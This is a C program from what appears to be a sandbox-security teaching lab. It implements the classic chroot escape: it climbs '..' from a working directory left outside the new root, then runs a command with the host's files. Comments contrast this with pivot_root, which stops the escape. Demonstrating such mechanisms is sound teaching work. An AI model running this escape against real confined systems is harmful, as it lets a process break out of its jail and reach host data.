/* chrootbreak.c - the classic chroot(2) escape, which pivot_root(2) in a mount namespace stops.
 *
 * Mechanism: chroot only changes where path lookup of "/" starts; a process with CAP_SYS_CHROOT
 * whose working directory lies outside its root can walk ".." up to the real root. After
 * pivot_root and detaching the old root, nothing lies above "/" in the mount namespace.
 * What it does: chroot into a new subdirectory without entering it, climbs ".." from the working
 * directory until it stops, chroots there, compares the new "/" with the old one, then runs CMD.
 * Outcome: in "ns -m -r DIR --chroot": "chrootbreak: escaped", exit 0 (CMD then sees the host's
 * files); in "ns -m -r DIR": "chrootbreak: not escaped", exit 1 (the mechanism held).
 * Needs: CAP_SYS_CHROOT (root).
 * Read next: chroot(2) NOTES, pivot_root(2).
 */
#define _GNU_SOURCE
#include "cseclab.h"

#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define JAIL "cseclab-jail"

static void usage(FILE *f)
{
	fprintf(f,
		"Usage: %s [CMD [ARG]...]\n"
		"Try the classic chroot escape; if it works, run CMD in the real root.\n"
		"Run it as root inside ns -m -r DIR --chroot (escapes) or ns -m -r DIR (does "
		"not).\n\n"
		"  -h, --help   this help\n\n"
		"Exit status: 0 escaped (then CMD's), 1 not escaped, 77 without CAP_SYS_CHROOT.\n",
		progname);
}

static bool same_dir(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

int main(int argc, char **argv)
{
	static const struct option longopts[] = {
		{"help", no_argument, NULL, 'h'},
		{NULL, 0, NULL, 0},
	};
	struct stat before, after, here, up;
	int oldroot, climbs = 0, c;

	prog_init(argv[0]);
	/* '+': CMD's own options stay CMD's. */
	opterr = 0; /* bad_option() reports what getopt_long refuses */
	while ((c = getopt_long(argc, argv, "+:h", longopts, NULL)) != -1) {
		if (c == 'h') {
			usage(stdout);
			return EXIT_OK;
		}
		bad_option(c, argv);
	}

	if (stat("/", &before) == -1)
		die("stat /");
	oldroot = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (oldroot == -1)
		die("open /");
	if (chdir("/") == -1)
		die("chdir /");

	/* 1. chroot into a subdirectory, but do not chdir into it: "." is now outside our root. */
	if (mkdirat(oldroot, JAIL, 0700) == -1 && errno != EEXIST)
		die("mkdir " JAIL);
	if (chroot(JAIL) == -1) {
		if (errno == EPERM)
			unsupported("run it as root, inside ns -m -r DIR",
				    "chroot: %s: needs CAP_SYS_CHROOT", strerror(errno));
		die("chroot " JAIL);
	}
	unlinkat(oldroot, JAIL, AT_REMOVEDIR); /* an empty directory, not needed any more */

	/* 2. ".." stops only at our root, which "." is no longer under: climb until "." is "..". */
	for (;;) {
		if (stat(".", &here) == -1 || stat("..", &up) == -1)
			die("stat");
		if (same_dir(&here, &up) || climbs == 4096)
			break;
		if (chdir("..") == -1)
			die("chdir ..");
		climbs++;
	}
	/* 3. Make the top we reached our root. */
	if (chroot(".") == -1)
		die("chroot .");
	if (chdir("/") == -1)
		die("chdir /");
	if (stat("/", &after) == -1)
		die("stat /");

	if (same_dir(&before, &after)) {
		printf("chrootbreak: not escaped: \"..\" stops at the same root after %d climbs "
		       "(nothing is mounted above it)\n",
		       climbs);
		return EXIT_FAIL;
	}
	printf("chrootbreak: escaped: %d climbs up from the old root; / is now device %lu:%lu "
	       "inode %lu\n",
	       climbs, (unsigned long)major(after.st_dev), (unsigned long)minor(after.st_dev),
	       (unsigned long)after.st_ino);
	fflush(stdout);
	if (optind < argc) {
		execvp(argv[optind], argv + optind);
		fprintf(stderr, "%s: execvp %s: %s\n", progname, argv[optind], strerror(errno));
		return 127;
	}
	return EXIT_OK;
}
